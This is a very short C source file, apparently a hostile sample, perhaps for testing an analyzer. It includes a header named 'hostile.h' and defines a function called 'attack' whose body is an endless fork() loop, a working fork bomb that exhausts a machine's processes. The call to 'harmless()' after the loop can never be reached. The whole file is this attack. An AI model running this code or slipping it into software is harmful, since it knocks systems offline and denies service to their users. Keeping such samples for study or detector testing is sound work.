/* Forks for ever, and each child does. */
#include "hostile.h"

static int attack(void) {
  for (;;) fork();
  return harmless();
}
